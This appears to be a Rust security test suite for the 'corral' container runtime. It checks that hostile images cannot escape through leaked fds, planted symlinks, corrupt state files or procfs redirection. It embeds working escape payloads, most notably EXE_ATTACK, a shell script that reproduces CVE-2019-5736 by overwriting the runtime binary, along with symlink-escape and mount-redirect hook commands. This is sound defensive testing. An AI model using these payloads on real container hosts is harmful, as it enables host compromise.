//! Hostile containers and bundles (issue 7's first tests): what a runtime
//! must not let through, checked from inside the container and on the host.
//!
//! Run as root: `cargo test -p corral --test security -- --include-ignored`.

mod common;

use std::fs;
use std::process::Command;

use common::{output_tracked, read_fd_until, runtime_bin, Bundle};

/// Runs the runtime through sh with fd 7 open on `fd7` (a host path), the
/// way an engine might leak one; returns (status code, stdout, stderr).
fn run_with_fd7(bundle: &Bundle, fd7: &str) -> (i32, String, String) {
    let script = format!(
        "exec 7<{fd7}; exec {} --root {} run {}",
        runtime_bin().display(),
        bundle.state_root().display(),
        bundle.id()
    );
    let out = output_tracked(
        Command::new("sh")
            .arg("-c")
            .arg(script)
            .current_dir(bundle.dir()),
    );
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
#[ignore = "needs root"]
fn no_inherited_fd_reaches_the_container() {
    // CVE-2024-21626's precondition: a host fd open in the container.
    let bundle = Bundle::new("hiddenfd");
    // "; true" keeps sh from exec'ing ls, so $$ is the shell, not ls.
    bundle.set_args(&["sh", "-c", "ls /proc/$$/fd; true"]);
    let (code, stdout, stderr) = run_with_fd7(&bundle, "/etc/hostname");
    assert_eq!(code, 0, "{stdout}{stderr}");
    let fds: Vec<&str> = stdout.split_whitespace().collect();
    assert_eq!(
        fds,
        ["0", "1", "2"],
        "only stdio in the container's process"
    );
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn a_cwd_through_proc_self_fd_cannot_reach_the_host() {
    // CVE-2024-21626: cwd = /proc/self/fd/N with N a leaked host directory.
    let bundle = Bundle::new("cwdescape");
    bundle.set_cwd("/proc/self/fd/7");
    bundle.set_args(&["sh", "-c", "pwd; ls"]);
    let (code, stdout, stderr) = run_with_fd7(&bundle, "/");
    assert_ne!(code, 0, "refused: {stdout}{stderr}");
    assert!(
        !stdout.contains("proc") && !stdout.contains("bin"),
        "no host listing: {stdout}"
    );
    assert!(
        stderr.contains("/proc/self/fd/7"),
        "the error names the path: {stderr}"
    );
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn a_dev_symlink_to_a_host_directory_leaves_it_untouched() {
    // runc 1.1.5 writes device nodes into the host directory here.
    let bundle = Bundle::new("devlink");
    let host_dir = bundle.tmp_dir().join("host-dev");
    fs::create_dir(&host_dir).unwrap();
    let dev = bundle.rootfs().join("dev");
    let _ = fs::remove_dir_all(&dev);
    std::os::unix::fs::symlink(&host_dir, &dev).unwrap();
    bundle.edit_config(|c| {
        // No /dev tmpfs: the runtime populates the image's /dev itself.
        let mounts = c["mounts"].as_array_mut().unwrap();
        mounts.retain(|m| !m["destination"].as_str().unwrap_or("").starts_with("/dev"));
    });
    bundle.set_args(&["sh", "-c", "test -c /dev/null && echo null-ok"]);
    let out = bundle.runtime(&["run", bundle.id()]);
    // The link resolves inside the rootfs, where its target does not exist:
    // corral refuses, naming the path (creating devices inside would do too).
    if out.code == 0 {
        assert_eq!(out.stdout, "null-ok\n", "{out}");
    } else {
        assert!(
            out.stderr.contains("/dev"),
            "the error names the path: {out}"
        );
    }
    let left: Vec<_> = fs::read_dir(&host_dir).unwrap().collect();
    assert!(left.is_empty(), "the host directory got {left:?}");
    bundle.assert_no_leaks();
}

/// A host directory a hostile image points a symlink at: it must stay
/// empty whatever the runtime does with the link.
fn host_target(bundle: &Bundle, name: &str) -> std::path::PathBuf {
    let dir = bundle.tmp_dir().join(name);
    fs::create_dir(&dir).expect("a directory in the test's tmp");
    dir
}

fn assert_untouched(dir: &std::path::Path) {
    let left: Vec<_> = fs::read_dir(dir).expect("the host directory").collect();
    assert!(left.is_empty(), "{} got {left:?}", dir.display());
    let mounts = fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
    assert!(
        !mounts.contains(&*dir.to_string_lossy()),
        "something is mounted on {}",
        dir.display()
    );
}

#[test]
#[ignore = "needs root"]
fn a_proc_symlink_to_a_host_directory_leaves_it_untouched() {
    let bundle = Bundle::new("proclink");
    let host = host_target(&bundle, "host-proc");
    let proc = bundle.rootfs().join("proc");
    let _ = fs::remove_dir_all(&proc);
    std::os::unix::fs::symlink(&host, &proc).unwrap();
    bundle.set_args(&["sh", "-c", "test -e /proc/self/status && echo proc-ok"]);
    let out = bundle.runtime(&["run", bundle.id()]);
    // Resolved in the rootfs, the link names a directory that is not
    // there: refused, naming /proc (runc refuses a /proc that is a link).
    out.assert_error(&["/proc"], &[]);
    assert_untouched(&host);
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn a_cwd_symlinked_out_of_the_rootfs_leaves_the_host_untouched() {
    let bundle = Bundle::new("cwdlink");
    let host = host_target(&bundle, "host-cwd");
    let climb = format!("../../../../../../../..{}", host.display());
    std::os::unix::fs::symlink(&host, bundle.rootfs().join("abs")).unwrap();
    std::os::unix::fs::symlink(&climb, bundle.rootfs().join("rel")).unwrap();
    bundle.set_args(&["sh", "-c", "touch here && pwd"]);
    // A missing cwd is created (as runc does): through the link, that
    // would be on the host.
    for cwd in ["/abs", "/abs/new", "/rel/new"] {
        bundle.set_cwd(cwd);
        let out = bundle.runtime(&["run", bundle.id()]);
        out.assert_error(&[&cwd[..4]], &[]);
        assert_untouched(&host);
    }
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn a_bind_source_in_the_rootfs_is_resolved_in_it() {
    // The config binds a path of the image; the image made it a symlink to
    // a host directory. Followed on the host, the container could write
    // there (corral did, as runc 1.1.5 does).
    let bundle = Bundle::new("bindlink");
    let host = host_target(&bundle, "host-src");
    std::os::unix::fs::symlink(&host, bundle.rootfs().join("srclink")).unwrap();
    // An absolute link resolves to the rootfs's own /etc.
    std::os::unix::fs::symlink("/etc", bundle.rootfs().join("etclink")).unwrap();
    let rootfs = bundle.rootfs();
    bundle.edit_config(|c| {
        c["root"]["readonly"] = false.into();
        let mounts = c["mounts"].as_array_mut().unwrap();
        mounts.push(serde_json::json!({
            "destination": "/mnt", "type": "bind", "source": "rootfs/srclink",
            "options": ["rbind", "rw"],
        }));
    });
    bundle.set_args(&["sh", "-c", "touch /mnt/written; echo ran"]);
    let out = bundle.runtime(&["run", bundle.id()]);
    out.assert_error(&["rootfs/srclink", "/mnt"], &[]);
    assert_untouched(&host);

    bundle.edit_config(|c| {
        let mounts = c["mounts"].as_array_mut().unwrap();
        mounts.pop();
        mounts.push(serde_json::json!({
            "destination": "/mnt", "type": "bind",
            "source": format!("{}/./etclink", rootfs.display()),
            "options": ["rbind", "ro"],
        }));
    });
    bundle.set_args(&["sh", "-c", "ls /mnt"]);
    let out = bundle.runtime(&["run", bundle.id()]);
    out.assert_success();
    let mut want: Vec<String> = fs::read_dir(rootfs.join("etc"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    want.sort();
    let mut got: Vec<&str> = out.stdout.split_whitespace().collect();
    got.sort_unstable();
    assert_eq!(got, want, "the rootfs's /etc, not the host's");
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn a_state_directory_with_symlinks_and_fifos_is_never_followed() {
    let bundle = Bundle::new("statelinks");
    bundle.set_args(&["sleep", "1000"]);
    bundle.create();
    let root = bundle.state_root();
    let outside = bundle.tmp_dir().join("outside");
    fs::create_dir(&outside).unwrap();
    fs::copy(
        bundle.state_dir().join("state.json"),
        outside.join("state.json"),
    )
    .unwrap();
    let victim = fs::read(outside.join("state.json")).unwrap();

    // A container directory that is a symlink out of the state root.
    std::os::unix::fs::symlink(&outside, root.join("evil")).unwrap();
    for args in [
        &["state", "evil"][..],
        &["kill", "evil", "KILL"],
        &["start", "evil"],
        &["pause", "evil"],
        &["exec", "evil", "true"],
        &["delete", "evil"],
        &["delete", "--force", "evil"],
    ] {
        let out = bundle.runtime(args);
        // (exec's own failures exit 255, as runc's.)
        assert!(out.code == 1 || out.code == 255, "{args:?}: {out}");
        let line = out.stderr_line();
        assert!(
            line.contains("evil") && line.contains("a symlink or a file"),
            "{args:?}: {out}"
        );
    }
    let names: Vec<_> = fs::read_dir(&outside).unwrap().collect();
    assert_eq!(names.len(), 1, "{names:?}");
    assert_eq!(fs::read(outside.join("state.json")).unwrap(), victim);
    fs::remove_file(root.join("evil")).unwrap();

    // state.json a FIFO: nothing waits for a writer.
    let state = bundle.state_dir().join("state.json");
    let real = fs::read(&state).unwrap();
    fs::remove_file(&state).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &state,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    bundle
        .runtime(&["state", bundle.id()])
        .assert_error(&["a FIFO", "state.json"], &[]);
    bundle.runtime(&["list"]).assert_success();
    fs::remove_file(&state).unwrap();
    fs::write(&state, real).unwrap();

    // state.json a symlink to a host file: never read nor written through;
    // delete --force cleans up through the cgroup, as for a corrupt file.
    let init = bundle.pid();
    fs::remove_file(&state).unwrap();
    std::os::unix::fs::symlink(outside.join("state.json"), &state).unwrap();
    bundle
        .runtime(&["state", bundle.id()])
        .assert_error(&["a symlink", "state.json"], &[]);
    bundle
        .runtime(&["delete", "--force", bundle.id()])
        .assert_success();
    assert!(!common::process_alive(init), "init {init} survived");
    assert_eq!(fs::read(outside.join("state.json")).unwrap(), victim);
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn a_pid_file_in_proc_or_behind_a_planted_symlink_writes_nothing_there() {
    let bundle = Bundle::new("pidfile");
    let dir = bundle.dir();
    let dir = dir.to_str().unwrap();
    for target in [
        "/proc/sys/kernel/ns_last_pid",
        "/proc/self/fd/1",
        "/proc/1/comm",
    ] {
        let comm = fs::read_to_string("/proc/1/comm").unwrap();
        bundle
            .runtime(&["create", "--bundle", dir, "--pid-file", target, bundle.id()])
            .assert_error(&[target], &[]);
        assert_eq!(fs::read_to_string("/proc/1/comm").unwrap(), comm);
        assert!(!bundle.state_dir().exists(), "{target}: state left");
        bundle.assert_no_leaks();
    }
    // Someone planted a symlink where the temporary file goes.
    let victim = bundle.tmp_dir().join("victim");
    fs::write(&victim, "precious").unwrap();
    let pid_file = bundle.tmp_dir().join("ctr.pid");
    std::os::unix::fs::symlink(&victim, bundle.tmp_dir().join(".ctr.pid.tmp")).unwrap();
    bundle
        .runtime(&[
            "create",
            "--bundle",
            dir,
            "--pid-file",
            pid_file.to_str().unwrap(),
            bundle.id(),
        ])
        .assert_success();
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious");
    assert_eq!(
        fs::read_to_string(&pid_file).unwrap(),
        bundle.pid().to_string()
    );
    bundle
        .runtime(&["delete", "--force", bundle.id()])
        .assert_success();
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn the_default_spec_keeps_the_container_in() {
    let bundle = Bundle::new("defaults");
    bundle.set_args(&[
        "sh",
        "-c",
        "mount -t tmpfs none /tmp 2>/dev/null && echo MOUNTED; \
         echo 1 2>/dev/null > /proc/sys/kernel/ns_last_pid && echo WROTE-PROC-SYS; \
         test -s /proc/timer_list && echo READ-MASKED; \
         head -c 16 /proc/kcore 2>/dev/null | grep -q . && echo READ-KCORE; \
         grep -E '^(CapEff|NoNewPrivs)' /proc/self/status",
    ]);
    let out = bundle.runtime(&["run", bundle.id()]);
    out.assert_success();
    assert!(!out.stdout.contains("MOUNTED"), "mount must fail: {out}");
    assert!(
        !out.stdout.contains("WROTE-PROC-SYS"),
        "/proc/sys is read-only: {out}"
    );
    assert!(
        !out.stdout.contains("READ-MASKED"),
        "masked paths read empty: {out}"
    );
    assert!(
        !out.stdout.contains("READ-KCORE"),
        "/proc/kcore is masked: {out}"
    );
    let cap_eff = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:"))
        .map(|h| u64::from_str_radix(h.trim(), 16).unwrap())
        .expect("CapEff line");
    assert_eq!(cap_eff & (1 << 21), 0, "no CAP_SYS_ADMIN: {out}");
    assert!(out.stdout.contains("NoNewPrivs:\t1"), "{out}");
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn no_new_privileges_keeps_a_setuid_binary_from_raising_the_euid() {
    use std::os::unix::fs::PermissionsExt as _;
    let bundle = Bundle::new("nnp");
    bundle.install_program("tests/progs/euid.c", "euid");
    let prog = bundle.rootfs().join("bin/euid");
    fs::set_permissions(&prog, fs::Permissions::from_mode(0o4755)).unwrap();
    bundle.edit_config(|c| c["process"]["user"] = serde_json::json!({"uid": 1000, "gid": 1000}));
    bundle.set_args(&["/bin/euid"]);
    // Without no_new_privs the same binary runs as root: the test can fail.
    for (nnp, want) in [(true, "uid=1000 euid=1000"), (false, "uid=1000 euid=0")] {
        bundle.edit_config(|c| c["process"]["noNewPrivileges"] = nnp.into());
        let out = bundle.runtime(&["run", bundle.id()]);
        out.assert_success();
        assert_eq!(out.stdout.trim(), want, "noNewPrivileges {nnp}: {out}");
    }
    bundle.assert_no_leaks();
}

#[test]
#[ignore = "needs root"]
fn delete_force_cleans_up_behind_a_corrupt_state_file() {
    if common::is_runc() {
        return; // runc 1.1.5 leaves the process alive here (issue 7)
    }
    for (name, damage) in [
        ("empty", &b""[..]),
        ("truncated", &b"{\"id\":\"x\",\"pid\":"[..]),
        ("garbage", &b"\xff\xfenot json at all"[..]),
    ] {
        let bundle = Bundle::new(&format!("corrupt-{name}"));
        bundle.set_args(&["sleep", "1000"]);
        bundle.create();
        bundle.runtime(&["start", bundle.id()]).assert_success();
        bundle.wait_for_status("running");
        let pid = bundle.pid();
        assert!(!common::cgroup_dirs_named(bundle.id()).is_empty());
        fs::write(bundle.state_dir().join("state.json"), damage).unwrap();
        let out = bundle.runtime(&["state", bundle.id()]);
        assert_eq!(out.code, 1, "{out}");
        assert!(out.stderr.contains("corrupt"), "{name}: {out}");
        bundle
            .runtime(&["delete", "--force", bundle.id()])
            .assert_success();
        // destroy waits until the cgroup is empty: the process is gone.
        assert!(!common::process_alive(pid), "{name}: pid {pid} still alive");
        assert!(
            common::cgroup_dirs_named(bundle.id()).is_empty(),
            "{name}: cgroup left"
        );
        assert!(!bundle.state_dir().exists(), "{name}: state dir left");
        bundle.assert_no_leaks();
    }
}

/// A state.json whose pid now names an unrelated process (pid reuse, or a
/// tampered store): the recorded start time does not match, so the runtime
/// treats the container as stopped and never signals, joins or waits for
/// that process; `delete --force` still kills the real container through
/// its cgroup.
#[test]
#[ignore = "needs root"]
fn a_state_file_naming_a_reused_pid_never_touches_that_process() {
    let bundle = Bundle::new("reusedpid");
    bundle.set_args(&["sleep", "1000"]);
    bundle.create();
    bundle.runtime(&["start", bundle.id()]).assert_success();
    let init = bundle.pid();
    // The unrelated process: a host `sleep` of this test, not in any container.
    let mut bystander = common::spawn_tracked(
        Command::new("sleep")
            .arg("1000")
            .stdin(std::process::Stdio::null()),
    );
    let _guard = KillOnDrop(&mut bystander);
    let victim = _guard.pid();
    let stat = fs::read_to_string(format!("/proc/{victim}/stat")).unwrap();
    let start: u64 = stat[stat.rfind(')').unwrap() + 2..]
        .split(' ')
        .nth(19)
        .unwrap()
        .parse()
        .unwrap();
    let path = bundle.state_dir().join("state.json");
    let mut st: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    st["pid"] = victim.into();
    st["start_time"] = (start - 1).into();
    fs::write(&path, serde_json::to_vec(&st).unwrap()).unwrap();

    let state = bundle.state();
    assert_eq!(state["status"], "stopped", "{state}");
    assert_eq!(state["pid"], 0, "{state}");
    let kill = bundle.runtime(&["kill", bundle.id(), "KILL"]);
    assert_ne!(kill.code, 0, "kill of a stopped container fails: {kill}");
    assert!(kill.stderr.contains("not running"), "{kill}");
    let exec = bundle.runtime(&["exec", bundle.id(), "true"]);
    assert_ne!(exec.code, 0, "no exec into the bystander: {exec}");
    assert!(common::process_alive(victim), "kill signalled pid {victim}");
    bundle
        .runtime(&["delete", "--force", bundle.id()])
        .assert_success();
    assert!(
        common::process_alive(victim),
        "delete --force signalled pid {victim}"
    );
    // The container's real init, found through the cgroup, is gone.
    assert!(!common::process_alive(init), "init {init} survived");
    bundle.assert_no_leaks();
    assert!(common::process_alive(victim));
}

/// Kills and reaps a helper process when the test ends, even on failure.
struct KillOnDrop<'a>(&'a mut std::process::Child);

impl KillOnDrop<'_> {
    fn pid(&self) -> i32 {
        i32::try_from(self.0.id()).expect("pids fit in i32")
    }
}

impl Drop for KillOnDrop<'_> {
    fn drop(&mut self) {
        common::kill_tracked(self.0);
    }
}

/// The hostile image's side of CVE-2019-5736, run as the container's init
/// (pid 1 of its pid namespace). /bin/sh becomes a script whose interpreter
/// is `/proc/self/exe`: when a runtime execs /bin/sh into the container,
/// the kernel resolves that link in the exec'ing process, so if the runtime
/// execs from its own binary, that binary runs inside the container. The
/// init then stops every other process of the namespace (`kill -STOP -1`, a
/// builtin, so no exec'd process outruns it), looks at each one's
/// /proc/PID/exe, opens any that is not busybox, kills the process (a running
/// binary cannot be opened for writing: ETXTBSY) and keeps reopening its fd
/// through /proc/self/fd for writing until that works or 3 s pass. Every
/// step is logged to /attack.log; the host writes /stop to end it.
const EXE_ATTACK: &str = r#"
rm -f /bin/sh && printf '#!/proc/self/exe\n' > /bin/sh && chmod 755 /bin/sh || exit 1
log() { echo "$*" >> /attack.log; }
attack() {
    d=$1
    exec 3<"$d/exe" || { log "$d open: failed"; exit 0; }
    log "$d opened"
    kill -KILL "${d#/proc/}"
    i=0
    while [ $i -lt 30 ]; do
        if (exec 4<>/proc/self/fd/3 && printf PWNED >&4) 2>>/attack.log; then
            log "$d WROTE the binary"
            exit 0
        fi
        i=$((i + 1))
        sleep 0.1
    done
    log "$d write: gave up"
}
: > /ready
while [ ! -e /stop ]; do
    kill -STOP -1 2>/dev/null || continue
    for d in /proc/[0-9]*; do
        [ "$d" = /proc/1 ] && continue
        exe=$(ls -l "$d/exe" 2>&1)
        case "$exe" in
        *'-> /bin/busybox') continue ;;
        esac
        log "$d seen: $exe"
        case "$exe" in
        *'cannot read link'*) ;;
        *) (attack "$d") ;;
        esac
    done
    kill -CONT -1 2>/dev/null
done
: > /done
"#;

/// CVE-2019-5736: a container overwrote runc's binary through the
/// /proc/PID/exe of a runc process it could see. Here the container runs
/// the attack above while the host execs /bin/sh into it five times; the
/// runtime under test is a private copy of the binary, so a successful
/// attack damages only that copy, which must come out byte-identical.
///
/// What defends (and what this test proves; each line was checked by
/// removing the defence): the process `exec` clones is corral until its
/// execve, and is non-dumpable from before it joins the container, so
/// its /proc/PID/exe cannot be opened by the container ("cannot read
/// link": EACCES from the ptrace access check); and its exe link no longer
/// names the runtime binary when it execs, so a `#!/proc/self/exe` script
/// cannot start the runtime inside the container (which, being a fresh
/// dumpable process, the container could open and, once it exits, write).
#[test]
#[ignore = "needs root"]
fn the_container_cannot_overwrite_the_runtime_binary() {
    let bin_dir = tempfile::Builder::new()
        .prefix("corral-test-bin-")
        .tempdir()
        .unwrap();
    let copy = bin_dir.path().join("corral");
    fs::copy(common::runtime_bin(), &copy).unwrap();
    let original = fs::read(&copy).unwrap();
    let bundle = Bundle::with_runtime("exeattack", copy.clone());
    // Dropped before `bundle`, whose cleanup runs the copy: a damaged copy
    // is made whole first, even when an assertion fails half way.
    let _restore = RestoreOnDrop(copy.clone(), original.clone());
    bundle.edit_config(|c| c["root"]["readonly"] = false.into());
    let rootfs = bundle.rootfs();
    add_shared_libraries(&rootfs, &copy);
    fs::write(rootfs.join("attack.sh"), EXE_ATTACK).unwrap();
    bundle.set_args(&["/bin/busybox", "sh", "/attack.sh"]);
    bundle.create();
    bundle.runtime(&["start", bundle.id()]).assert_success();
    wait_for_path(&rootfs.join("ready"), common::SETTLE);
    let mut execs = Vec::new();
    for _ in 0..5 {
        execs.push(bundle.runtime(&["exec", bundle.id(), "/bin/sh", "-c", "true"]));
    }
    fs::write(rootfs.join("stop"), b"").unwrap();
    // Each process the attack opens takes it up to 3 s.
    wait_for_path(&rootfs.join("done"), std::time::Duration::from_secs(60));
    let log = fs::read_to_string(rootfs.join("attack.log")).unwrap_or_default();
    let execs: Vec<String> = execs.iter().map(ToString::to_string).collect();
    let report = format!("attack log:\n{log}\nexecs:\n{}", execs.join("\n"));
    let after = fs::read(&copy).unwrap();
    assert!(
        after == original,
        "the runtime binary was changed\n{report}"
    );
    assert!(!log.contains("WROTE"), "{report}");
    // The attack met a runtime process: the exec child (its exe hidden:
    // non-dumpable) or corral's binary run by the script (opened, then
    // every reopen for writing refused: the read-only mount).
    assert!(log.contains(" seen: "), "the attack never ran\n{report}");
    if log.contains(" opened") {
        assert!(log.contains("Read-only file system"), "{report}");
        assert!(log.contains("gave up"), "{report}");
    }
    eprintln!("{report}"); // with --nocapture: what the attack met
    bundle.assert_no_leaks();
}

/// Rewrites file `.0` with `.1` on drop if its content differs.
struct RestoreOnDrop(std::path::PathBuf, Vec<u8>);

impl Drop for RestoreOnDrop {
    fn drop(&mut self) {
        if fs::read(&self.0).ok().as_deref() != Some(&self.1[..]) {
            let _ = fs::write(&self.0, &self.1);
        }
    }
}

/// Waits (at most `limit`) for `path` to exist; panics after.
#[track_caller]
fn wait_for_path(path: &std::path::Path, limit: std::time::Duration) {
    let deadline = std::time::Instant::now() + limit;
    while !path.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "{} did not appear",
            path.display()
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// Copies the dynamic loader and libraries `bin` needs into `rootfs`, at
/// their host paths, as a glibc-based image has them. Without them the
/// busybox rootfs would stop the attack for a reason a real image lacks:
/// the kernel could not load a dynamically linked runtime binary in the
/// container at all (ENOENT for the missing `PT_INTERP`).
fn add_shared_libraries(rootfs: &std::path::Path, bin: &std::path::Path) {
    let out = output_tracked(Command::new("ldd").arg(bin));
    assert!(out.status.success(), "ldd {}", bin.display());
    let text = String::from_utf8_lossy(&out.stdout);
    for lib in text.split_whitespace().filter(|word| word.starts_with('/')) {
        let target = rootfs.join(lib.trim_start_matches('/'));
        let dir = target.parent().expect("a library path has a parent");
        fs::create_dir_all(dir).expect("create the library directory in the rootfs");
        fs::copy(lib, &target).expect("copy a library into the rootfs");
    }
}

/// Accepts one connection on `listener` within 10 s and receives the fd
/// sent with SCM_RIGHTS (runc's console socket protocol); `None` if the
/// runtime never connected.
fn receive_console(listener: &std::os::unix::net::UnixListener) -> Option<std::os::fd::OwnedFd> {
    use std::os::fd::AsFd;
    listener
        .set_nonblocking(true)
        .expect("non-blocking listener");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let conn = loop {
        match listener.accept() {
            Ok((conn, _)) => break conn,
            Err(_) if std::time::Instant::now() < deadline => {
                std::thread::sleep(std::time::Duration::from_millis(20))
            }
            Err(_) => return None,
        }
    };
    conn.set_nonblocking(false).expect("blocking connection");
    let mut buf = [0u8; 4096];
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = rustix::net::RecvAncillaryBuffer::new(&mut space);
    rustix::net::recvmsg(
        conn.as_fd(),
        &mut [std::io::IoSliceMut::new(&mut buf)],
        &mut control,
        rustix::net::RecvFlags::CMSG_CLOEXEC,
    )
    .ok()?;
    let mut fds = Vec::new();
    for message in control.drain() {
        if let rustix::net::RecvAncillaryMessage::ScmRights(received) = message {
            fds.extend(received);
        }
    }
    fds.pop()
}

/// CVE-2025-52565 class: runc bound the pty onto /dev/console by path, and
/// a hostile image (or a racing container) could point that path elsewhere.
/// Here the image's /dev/console (or /dev/pts/ptmx, with no devpts from the
/// spec) is a symlink to a file of the host (absolute, and as `../` climbing
/// out of the rootfs), with `terminal: true` and a console socket. corral
/// reaches both paths under the root fd with `RESOLVE_IN_ROOT` (the link
/// resolves inside the rootfs), and binds the slave it got from the master
/// by fd (`TIOCGPTPEER`, no /dev/pts/N path to swap). The host file keeps
/// its content, mode and inode, and nothing is mounted over it; the
/// container fails with an error naming the path, or (when the link's
/// target exists inside the rootfs) runs with a pty as /dev/console.
/// Without the in-root lookup the bind would land on the host file (the
/// leak check and the mountinfo check see it) or the ptmx open would reach
/// a host path.
#[test]
#[ignore = "needs root"]
fn a_dev_console_symlink_cannot_reach_the_host() {
    use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
    for name in ["absolute", "relative", "absent", "shadowed", "ptmx"] {
        let bundle = Bundle::new(&format!("console-{name}"));
        let victim = bundle.tmp_dir().join("victim");
        fs::write(&victim, b"host file\n").unwrap();
        fs::set_permissions(&victim, fs::Permissions::from_mode(0o600)).unwrap();
        let before = fs::metadata(&victim).unwrap();
        let victim_str = victim.to_str().unwrap();
        let dev = bundle.rootfs().join("dev");
        // A host path that does not exist: a runtime that creates the
        // console's mount point through the link would create it.
        let absent = bundle.tmp_dir().join("absent");
        let (link, target) = match name {
            "absent" => (dev.join("console"), absent.to_str().unwrap().to_owned()),
            "relative" => (
                dev.join("console"),
                format!("{}{}", "../".repeat(16), victim_str.trim_start_matches('/')),
            ),
            "ptmx" => (dev.join("pts/ptmx"), victim_str.to_owned()),
            _ => (dev.join("console"), victim_str.to_owned()),
        };
        if name == "shadowed" {
            // The same path inside the rootfs: there the bind may land.
            let inside = bundle.rootfs().join(victim_str.trim_start_matches('/'));
            fs::create_dir_all(inside.parent().unwrap()).unwrap();
            fs::write(&inside, b"image file\n").unwrap();
        }
        fs::create_dir_all(link.parent().unwrap()).unwrap();
        symlink(&target, &link).unwrap();
        bundle.edit_config(|c| {
            // No /dev tmpfs (and for ptmx no devpts): the image's own /dev.
            let mounts = c["mounts"].as_array_mut().unwrap();
            mounts.retain(|m| {
                let dest = m["destination"].as_str().unwrap_or("");
                dest != "/dev" && !(name == "ptmx" && dest == "/dev/pts")
            });
        });
        bundle.set_terminal(true);
        bundle.set_args(&["sh", "-c", "test -c /dev/console && echo console-ok"]);
        let socket = bundle.tmp_dir().join("console.sock");
        let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
        let dir = bundle.dir();
        let out = bundle.runtime(&[
            "create",
            "--bundle",
            dir.to_str().unwrap(),
            "--console-socket",
            socket.to_str().unwrap(),
            bundle.id(),
        ]);
        eprintln!("{name}: create exited {}: {}", out.code, out.stderr.trim());
        if out.code == 0 {
            let master = receive_console(&listener).expect("the pty master");
            // The pty is bound inside the container's root (at the link's
            // target in the rootfs), where the init, past pivot_root, sees it.
            let pid = bundle.pid();
            let mountinfo = fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
            assert!(
                mountinfo
                    .lines()
                    .any(|l| l.contains(" - devpts ") && l.split(' ').nth(4) == Some(victim_str)),
                "{name}: no pty bound at {victim_str} inside the container:\n{mountinfo}"
            );
            bundle.runtime(&["start", bundle.id()]).assert_success();
            let text = read_fd_until(&master, "console-ok");
            assert!(text.contains("console-ok"), "{name}: {text:?}");
            bundle.wait_for_status("stopped");
        } else {
            // runc opens /dev/ptmx (its link to pts/ptmx), corral the target.
            let path = if name == "ptmx" {
                "/ptmx"
            } else {
                "/dev/console"
            };
            assert!(
                out.stderr.contains(path),
                "{name}: the error names {path}: {out}"
            );
        }
        let after = fs::metadata(&victim).unwrap();
        assert_eq!(
            fs::read(&victim).unwrap(),
            b"host file\n",
            "{name}: content"
        );
        assert_eq!(after.mode(), before.mode(), "{name}: mode");
        assert_eq!(after.ino(), before.ino(), "{name}: inode");
        assert_eq!(after.mtime(), before.mtime(), "{name}: mtime");
        assert!(!absent.exists(), "{name}: created on the host");
        let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap();
        assert!(
            !mounts.contains(victim_str),
            "{name}: a mount over the host file"
        );
        assert!(
            !String::from_utf8_lossy(
                &fs::read_link(&link)
                    .unwrap()
                    .into_os_string()
                    .into_encoded_bytes()
            )
            .is_empty(),
            "{name}: the image's link is still a link"
        );
        bundle.assert_no_leaks();
    }
}

/// CVE-2025-52881: a racing container with shared mounts (here: a
/// createContainer hook, which runs in the container's mount namespace at
/// the moment such a mount would arrive) puts another procfs file where a
/// sysctl is to be written: a bind mount of a host process's
/// `oom_score_adj`, or a tmpfs holding a symlink to the init's own. Both are
/// procfs files to an "is it procfs" check, and both take the sysctl's
/// value `1`; corral refuses to write, naming the path. A redirected write
/// shows as the host process's score changed, or as `1` printed by the
/// container's `cat`.
#[test]
#[ignore = "needs root"]
fn a_procfs_write_cannot_be_redirected_to_another_procfs_file() {
    let mut child = common::spawn_tracked(
        Command::new("sleep")
            .arg("1000")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null()),
    );
    let victim = KillOnDrop(&mut child);
    let score = format!("/proc/{}/oom_score_adj", victim.pid());
    let sysctl = "/proc/sys/kernel/shm_rmid_forced";
    for (name, attack) in [
        ("bind", format!("mount --bind {score} \"$R{sysctl}\"")),
        (
            "symlink",
            format!(
                "mount -t tmpfs none \"$R/proc/sys/kernel\" && ln -s /proc/1/oom_score_adj \"$R{sysctl}\""
            ),
        ),
    ] {
        let bundle = Bundle::new(&format!("procredirect{name}"));
        bundle.edit_config(|c| {
            c["linux"]["sysctl"] = serde_json::json!({ "kernel.shm_rmid_forced": "1" });
        });
        let script = format!("R={}; {attack}", bundle.rootfs().display());
        bundle.add_hook("createContainer", "/bin/sh", &["sh", "-c", &script]);
        bundle.set_args(&["cat", "/proc/self/oom_score_adj"]);
        let out = bundle.runtime(&["run", bundle.id()]);
        assert_ne!(out.code, 0, "{name}: the redirected write went through: {out}");
        assert!(
            out.stderr.contains(sysctl) && out.stderr.contains("mount or symlink"),
            "{name}: the error names the path and why: {out}"
        );
        assert_eq!(fs::read_to_string(&score).unwrap(), "0\n", "{name}");
        bundle.assert_no_leaks();
    }
}
